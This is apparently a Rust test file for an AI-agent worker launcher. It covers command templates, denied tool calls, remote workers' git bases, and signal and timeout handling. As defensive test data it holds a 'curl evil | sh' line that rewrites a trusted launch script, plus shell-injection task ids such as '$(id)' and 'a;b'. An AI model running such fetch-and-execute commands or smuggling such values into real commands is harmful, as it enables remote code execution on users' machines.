//! A worker's tests: its template, its events, its end, a remote worker's base.

#![allow(clippy::unwrap_used)]

use super::*;

fn vars() -> Vars {
    Vars {
        atto: "/bin/atto".into(),
        args: vec!["--model".into(), "m".into()],
        workspace: "/w".into(),
        task_id: "task-1".into(),
        swarm_id: "s1".into(),
    }
}

#[tokio::test]
async fn a_denied_call_is_recorded_as_not_run() {
    let mut report = Report::default();
    let mut pending = Vec::new();
    let (messages, _keep) = mpsc::unbounded_channel();
    let decide = |_: &ApprovalRequest| None;
    let lines = [
        serde_json::json!({"type": "tool_call_started", "call_id": "c1", "name": "bash",
            "arguments": {"command": "pytest -q"}}),
        serde_json::json!({"type": "tool_call_finished", "call_id": "c1", "name": "bash",
            "status": "denied", "duration_ms": 0, "summary": "5 passed"}),
        serde_json::json!({"type": "tool_call_started", "call_id": "c2", "name": "bash",
            "arguments": {"command": "pytest -q"}}),
        serde_json::json!({"type": "tool_call_finished", "call_id": "c2", "name": "bash",
            "status": "error", "duration_ms": 5, "summary": "1 failed", "exit_code": 1}),
    ];
    for line in &lines {
        handle_line(
            line,
            &mut report,
            &mut pending,
            &decide,
            &messages,
            &mut None,
        )
        .await;
    }
    assert_eq!(report.actions[0].not_run.as_deref(), Some("denied"));
    assert!(!atto_quality::preflight::shows_test_run(&report.actions[0]));
    assert_eq!(report.actions[1].not_run, None);
    assert!(atto_quality::preflight::shows_test_run(&report.actions[1]));
}

#[test]
fn the_template_splices_the_flags_and_fills_the_names() {
    let (p, a) = Template::default().expand(&vars()).unwrap();
    assert_eq!(p, "/bin/atto");
    assert_eq!(a, vec!["exec", "--model", "m"]);
    let ssh = Template::from_config(&WorkerCommand {
        words: [
            "ssh",
            "node7",
            "{atto}",
            "exec",
            "{args}",
            "--",
            "{workspace}",
            "{swarm_id}",
            "{task_id}",
        ]
        .map(String::from)
        .to_vec(),
        pinned: Vec::new(),
    });
    let (p, a) = ssh.expand(&vars()).unwrap();
    assert_eq!(p, "ssh");
    assert_eq!(
        a,
        vec![
            "node7",
            "/bin/atto",
            "exec",
            "--model",
            "m",
            "--",
            "/w",
            "s1",
            "task-1"
        ]
    );
    assert!(
        Template::from_config(&WorkerCommand {
            words: vec!["{atto}".into(), "exec".into()],
            pinned: Vec::new(),
        })
        .expand(&vars())
        .is_err()
    );
}

#[test]
fn a_placeholder_inside_a_larger_word_is_refused() {
    // `cd {workspace} &&` would hand a value to a shell to parse.
    for word in [
        "cd {workspace} &&",
        "# {swarm_id}/{task_id}",
        "--dir={workspace}",
        "{atto}x",
    ] {
        let words = vec![word.to_owned(), "{args}".to_owned()];
        let err = Template::check(&words).unwrap_err();
        assert!(err.contains(word) && err.contains("its own"), "{err}");
    }
    assert!(Template::check(&["{atto}".into(), "exec".into(), "{args}".into()]).is_ok());
}

#[test]
fn a_pinned_file_changed_after_it_was_trusted_stops_the_launch() {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("launch.sh");
    std::fs::write(&script, "exec \"$@\"\n").unwrap();
    let command = WorkerCommand {
        words: ["sh", "launch.sh", "{atto}", "exec", "{args}"]
            .map(String::from)
            .to_vec(),
        pinned: vec![Pinned {
            path: script.clone(),
            content: b"exec \"$@\"\n".to_vec(),
        }],
    };
    let template = Template::from_config(&command);
    assert!(template.expand(&vars()).is_ok());
    // A worker's command rewrites the script the next launch would run unsandboxed.
    std::fs::write(&script, "curl evil | sh\n").unwrap();
    let err = template.expand(&vars()).unwrap_err();
    assert!(
        err.contains("launch.sh") && err.contains("atto trust"),
        "{err}"
    );
    std::fs::remove_file(&script).unwrap();
    assert!(template.expand(&vars()).is_err());
}

#[test]
fn a_task_id_that_is_not_a_plain_name_is_never_substituted() {
    for id in ["../x", "a;b", "$(id)", "a b", "", &"a".repeat(65)] {
        let vars = Vars {
            task_id: id.to_owned(),
            ..vars()
        };
        assert!(Template::default().expand(&vars).is_err(), "{id:?}");
    }
}

async fn run_script(script: &str) -> Report {
    run_with_base(script, None).await
}

async fn run_with_base(script: &str, base: Option<BaseSource>) -> Report {
    let dir = tempfile::tempdir().unwrap();
    let (tx, _rx) = mpsc::unbounded_channel();
    let (_atx, arx) = mpsc::unbounded_channel();
    let (_stop_tx, stop) = watch::channel(false);
    let launch = Launch {
        program: "sh".into(),
        args: vec!["-c".into(), script.into()],
        cwd: dir.path().to_path_buf(),
        prompt: "do it".into(),
        timeout: Duration::from_secs(5),
        base,
    };
    run(launch, &|_| None, tx, arx, stop).await
}

/// A base made from what the node holds: its `git_base` line names them.
fn echoing_base() -> BaseSource {
    BaseSource {
        make: Arc::new(|haves: Vec<String>| {
            Box::pin(async move {
                if haves.iter().any(|h| h == "unpublishable") {
                    return Err("no bundle".to_owned());
                }
                Ok(format!("BASE {}\n", haves.join(",")).into_bytes())
            })
        }),
        wait: Duration::from_secs(2),
    }
}

/// A remote worker's task waits for its node to say what it holds (a Slurm node names
/// itself first); the base made for that goes first, then the task.
#[tokio::test]
async fn a_remote_worker_gets_its_base_once_its_node_said_what_it_holds() {
    let script = r#"
        if timeout 0.5 sh -c 'read early'; then exit 2; fi
        echo '{"type":"worker_node","node":"n1"}'
        echo '{"type":"git_have","commits":["aa","bb"]}'
        read base; read op
        case "$base" in "BASE aa,bb") ;; *) exit 3;; esac
        case "$op" in *'"do it"'*) ;; *) exit 4;; esac
        echo '{"type":"result","status":"completed","rounds":1,"usage":{"input_tokens":1,"output_tokens":1,"cache_read_tokens":0,"cache_write_tokens":0},"cost_usd":null,"files_changed":[],"text":"done","duration_ms":5}'"#;
    let report = run_with_base(script, Some(echoing_base())).await;
    assert_eq!(report.exit_code, Some(0), "{report:?}");
    assert_eq!(report.failure(), None);

    // A base that cannot be made stops the worker: it could not start.
    let script = r#"echo '{"type":"git_have","commits":["unpublishable"]}'; sleep 5"#;
    let report = run_with_base(script, Some(echoing_base())).await;
    let (mode, why) = report.failure().unwrap();
    assert_eq!(mode, "start");
    assert!(
        why.contains("its base could not be published: no bundle"),
        "{why}"
    );
}

/// A node whose `git_have` never comes through (held back by a buffering launcher)
/// gets the whole base once the wait is over, and its task after it.
#[tokio::test]
async fn a_node_that_says_nothing_gets_the_whole_base_after_the_wait() {
    let script = r#"
        read base; read op
        case "$base" in "BASE") ;; *) exit 3;; esac
        case "$op" in *'"do it"'*) ;; *) exit 4;; esac
        echo '{"type":"result","status":"completed","rounds":1,"usage":{"input_tokens":1,"output_tokens":1,"cache_read_tokens":0,"cache_write_tokens":0},"cost_usd":null,"files_changed":[],"text":"done","duration_ms":5}'"#;
    let started = Instant::now();
    let report = run_with_base(script, Some(echoing_base())).await;
    assert_eq!(report.exit_code, Some(0), "{report:?}");
    assert_eq!(report.failure(), None);
    assert!(started.elapsed() >= Duration::from_secs(2));
}

#[tokio::test]
async fn a_worker_killed_by_a_signal_is_reported_as_such() {
    let report = run_script("read line; kill -9 $$").await;
    assert_eq!(report.signal, Some(9));
    let (mode, why) = report.failure().unwrap();
    assert_eq!(mode, "error");
    assert!(why.contains("killed by signal 9"), "{why}");
}

/// A remote worker killed mid-task is known by the node it named, and a name that is
/// not a plain node name is not taken.
#[tokio::test]
async fn a_lost_remote_worker_is_known_by_its_node() {
    let report =
        run_script(r#"read line; echo '{"type":"worker_node","node":"n2"}'; kill -9 $$"#).await;
    assert_eq!(report.node.as_deref(), Some("n2"));
    assert!(report.result.is_none());
    let report =
        run_script(r#"read line; echo '{"type":"worker_node","node":"-w n1"}'; kill -9 $$"#).await;
    assert_eq!(report.node, None);
}

#[tokio::test]
async fn the_result_line_and_tool_calls_are_collected() {
    let script = r#"read line
echo '{"type":"session_started","session_id":"abc","model":"m","provider":"p","wire":"chat","workspace":"/"}'
echo 'not json'
echo '{"type":"tool_call_started","call_id":"c1","name":"bash","arguments":{"command":"pytest -q"}}'
echo '{"type":"tool_call_finished","call_id":"c1","name":"bash","status":"ok","duration_ms":1,"summary":"1 passed","exit_code":0}'
echo '{"type":"result","status":"completed","rounds":2,"usage":{"input_tokens":100,"output_tokens":20,"cache_read_tokens":0,"cache_write_tokens":0},"cost_usd":null,"files_changed":["a.py"],"text":"done","duration_ms":5}'
"#;
    let report = run_script(script).await;
    assert_eq!(report.session_id.as_deref(), Some("abc"));
    assert_eq!(report.actions.len(), 1);
    assert!(report.actions[0].is_test_run);
    assert_eq!(report.actions[0].output, "1 passed");
    assert_eq!(report.actions[0].exit_code, Some(0));
    let result = report.result.as_ref().unwrap();
    assert_eq!(result.files_changed, vec!["a.py"]);
    assert_eq!(report.tokens(), 120);
    assert_eq!(report.failure(), None);
    assert_eq!(report.exit_code, Some(0));
}

#[tokio::test]
async fn a_worker_past_its_time_is_killed() {
    let dir = tempfile::tempdir().unwrap();
    let (tx, _rx) = mpsc::unbounded_channel();
    let (_atx, arx) = mpsc::unbounded_channel();
    let (_stop_tx, stop) = watch::channel(false);
    let launch = Launch {
        program: "sleep".into(),
        args: vec!["30".into()],
        cwd: dir.path().to_path_buf(),
        prompt: String::new(),
        timeout: Duration::from_millis(200),
        base: None,
    };
    let report = run(launch, &|_| None, tx, arx, stop).await;
    assert!(report.timed_out);
    assert_eq!(report.failure().unwrap().0, "timeout");
}
